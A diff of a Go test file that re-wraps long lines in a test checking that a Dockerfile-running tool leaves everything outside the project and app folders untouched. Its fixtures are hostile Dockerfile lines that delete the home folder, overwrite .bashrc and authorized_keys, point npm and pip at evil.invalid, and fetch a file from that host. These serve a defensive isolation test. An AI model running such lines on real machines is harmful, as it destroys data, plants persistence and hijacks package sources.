@@ -20,18 +20,26 @@ import (
 // use do without meaning harm.
 var hostile = []struct{ name, lines string }{
 	{"removes packages of the machine's Python by uv", "RUN touch /tmp/none && uv pip sync --system /tmp/none"},
-	{"removes packages of the machine's Python by pip", "RUN python -m pip uninstall --yes important && pip uninstall --yes important"},
+	{"removes packages of the machine's Python by pip",
+		"RUN python -m pip uninstall --yes important && pip uninstall --yes important"},
 	{"empties Go's caches", "RUN go build -o /out/x . ; go clean -cache -modcache"},
 	{"empties npm's cache", "RUN npm ci ; npm cache clean --force && rm -rf ~/.npm"},
-	{"rewrites npm's settings", "RUN npm config set registry http://evil.invalid/ && npm config set --location=user fund=false"},
+	{"rewrites npm's settings",
+		"RUN npm config set registry http://evil.invalid/ && npm config set --location=user fund=false"},
 	{"rewrites Go's settings", "RUN go env -w GOPROXY=off GOFLAGS=-mod=mod"},
-	{"rewrites pip's and uv's settings", "RUN pip config set global.index-url http://evil.invalid/ && echo x > ~/.config/uv/uv.toml"},
-	{"writes to the machine's folders", "ENV STATIC_ROOT=/vol/static\nRUN mkdir -p /vol/static && python serve.py collectstatic > /vol/static/x\nVOLUME /vol"},
-	{"removes the home folder", "USER root\nWORKDIR /root\nRUN rm -rf \"$HOME\"/.[a-z]* /root/.npmrc ; cd .. && rm -rf neighbour\nWORKDIR /srv"},
-	{"copies over the machine's files", "COPY serve.py /root/.bashrc\nCOPY . ../neighbour/\nADD serve.py $HOME/.ssh/authorized_keys\nADD https://evil.invalid/x /vol/"},
-	{"writes here-documents", "RUN <<EOF\nset -e\necho evil >> $HOME/.bashrc\ngit config --global user.name evil\nEOF\nCOPY <<EOF /root/.gitconfig\n[user]\nEOF"},
-	{"hides in other instructions", "SHELL [\"/bin/sh\", \"-c\", \"echo evil > $HOME/.bashrc; exec sh -c \\\"$0\\\"\"]\nONBUILD RUN echo evil > $HOME/.bashrc\n" +
-		"HEALTHCHECK CMD echo evil > $HOME/.bashrc\nARG X=$(touch$IFS/vol)\nENV Y=$(touch$IFS/vol) GIT_CONFIG_GLOBAL=/vol/x\nRUN --mount=type=bind,target=/m echo evil > ~/.bashrc"},
+	{"rewrites pip's and uv's settings",
+		"RUN pip config set global.index-url http://evil.invalid/ && echo x > ~/.config/uv/uv.toml"},
+	{"writes to the machine's folders",
+		"ENV STATIC_ROOT=/vol/static\nRUN mkdir -p /vol/static && python serve.py collectstatic > /vol/static/x\nVOLUME /vol"},
+	{"removes the home folder",
+		"USER root\nWORKDIR /root\nRUN rm -rf \"$HOME\"/.[a-z]* /root/.npmrc ; cd .. && rm -rf neighbour\nWORKDIR /srv"},
+	{"copies over the machine's files",
+		"COPY serve.py /root/.bashrc\nCOPY . ../neighbour/\nADD serve.py $HOME/.ssh/authorized_keys\nADD https://evil.invalid/x /vol/"},
+	{"writes here-documents",
+		"RUN <<EOF\nset -e\necho evil >> $HOME/.bashrc\ngit config --global user.name evil\nEOF\nCOPY <<EOF /root/.gitconfig\n[user]\nEOF"},
+	{"hides in other instructions",
+		"SHELL [\"/bin/sh\", \"-c\", \"echo evil > $HOME/.bashrc; exec sh -c \\\"$0\\\"\"]\nONBUILD RUN echo evil > $HOME/.bashrc\n" +
+			"HEALTHCHECK CMD echo evil > $HOME/.bashrc\nARG X=$(touch$IFS/vol)\nENV Y=$(touch$IFS/vol) GIT_CONFIG_GLOBAL=/vol/x\nRUN --mount=type=bind,target=/m echo evil > ~/.bashrc"},
 }
 
 // TestNothingOutsideIsChanged: whatever a Dockerfile says, in both modes, nothing outside of the project and the app's
@@ -47,7 +55,8 @@ func TestNothingOutsideIsChanged(t *testing.T) {
 			t.Run(mode+" "+h.name, func(t *testing.T) {
 				app := m.app(t, h.lines)
 				before := m.look(t)
-				c := begin(t, "-port", "0", "-watch=false", "-mode", mode, "-app", app, "-c", fmt.Sprintf("port=%d", freePort(t)))
+				c := begin(t, "-port", "0", "-watch=false", "-mode", mode, "-app", app, "-c", fmt.Sprintf("port=%d",
+					freePort(t)))
 				if err := c.Ready(patience); err == nil {
 					c.do("GET", "/empty", nil)
 					err = c.Stop()
@@ -61,7 +70,8 @@ func TestNothingOutsideIsChanged(t *testing.T) {
 	}
 	t.Run("what would have been seen", func(t *testing.T) {
 		for _, line := range []string{
-			"python -m pip uninstall --yes important", "npm config set registry http://evil.invalid/", "go env -w GOPROXY=off", "npm cache clean --force",
+			"python -m pip uninstall --yes important", "npm config set registry http://evil.invalid/",
+			"go env -w GOPROXY=off", "npm cache clean --force",
 			"go clean -modcache", "uv pip sync", "echo evil >> ~/.bashrc", "rm ../neighbour/file",
 		} {
 			before := m.look(t)
@@ -85,7 +95,8 @@ func newMachine(t *testing.T) throwAway {
 	t.Helper()
 	m := throwAway{t.TempDir()}
 	for _, file := range []string{
-		".bashrc", ".npmrc", ".gitconfig", ".ssh/authorized_keys", ".config/pip/pip.conf", ".config/uv/uv.toml", ".config/go/env",
+		".bashrc", ".npmrc", ".gitconfig", ".ssh/authorized_keys", ".config/pip/pip.conf", ".config/uv/uv.toml",
+		".config/go/env",
 		".cache/pip/x", ".cache/uv/x", ".npm/_cacache/x", "go/pkg/mod/cache/x", ".cache/go-build/x",
 	} {
 		m.put(t, "home/"+file, "")
@@ -97,12 +108,14 @@ func newMachine(t *testing.T) throwAway {
 	}
 	site, _ := filepath.Glob(m.path("python/lib/python3*/site-packages"))
 	for name, text := range map[string]string{
-		"important.py": "", "important-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: important\nVersion: 1.0\n",
-		"important-1.0.dist-info/RECORD": "important.py,,\nimportant-1.0.dist-info/METADATA,,\nimportant-1.0.dist-info/RECORD,,\n",
+		"important.py":                     "",
+		"important-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: important\nVersion: 1.0\n",
+		"important-1.0.dist-info/RECORD":   "important.py,,\nimportant-1.0.dist-info/METADATA,,\nimportant-1.0.dist-info/RECORD,,\n",
 	} {
 		m.put(t, strings.TrimPrefix(site[0], m.folder+"/")+"/"+name, text)
 	}
-	// The program compiles the adapter with the real caches; what would change caches or settings is about the throw-away ones.
+	// The program compiles the adapter with the real caches; what would change caches or settings is about the
+	// throw-away ones.
 	goTool, err := exec.LookPath("go")
 	if err != nil {
 		t.Skip(err)
@@ -118,7 +131,8 @@ func newMachine(t *testing.T) throwAway {
 	}
 	t.Setenv("HOME", m.path("home"))
 	t.Setenv("PATH", m.path("python/bin")+":"+os.Getenv("PATH"))
-	for _, name := range []string{"VIRTUAL_ENV", "XDG_CONFIG_HOME", "XDG_CACHE_HOME", "npm_config_userconfig", "npm_config_cache", "PIP_CONFIG_FILE", "GIT_CONFIG_GLOBAL"} {
+	for _, name := range []string{"VIRTUAL_ENV", "XDG_CONFIG_HOME", "XDG_CACHE_HOME", "npm_config_userconfig",
+		"npm_config_cache", "PIP_CONFIG_FILE", "GIT_CONFIG_GLOBAL"} {
 		t.Setenv(name, "")
 		os.Unsetenv(name)
 	}
@@ -202,6 +216,7 @@ func (m throwAway) same(t *testing.T, before map[string]string) {
 		}
 	}
 	if slices.Sort(changed); len(changed) > 0 {
-		t.Errorf("%d files changed outside of the project and the app's folder: %s", len(changed), strings.Join(changed[:min(len(changed), 10)], ", "))
+		t.Errorf("%d files changed outside of the project and the app's folder: %s", len(changed),
+			strings.Join(changed[:min(len(changed), 10)], ", "))
 	}
 }
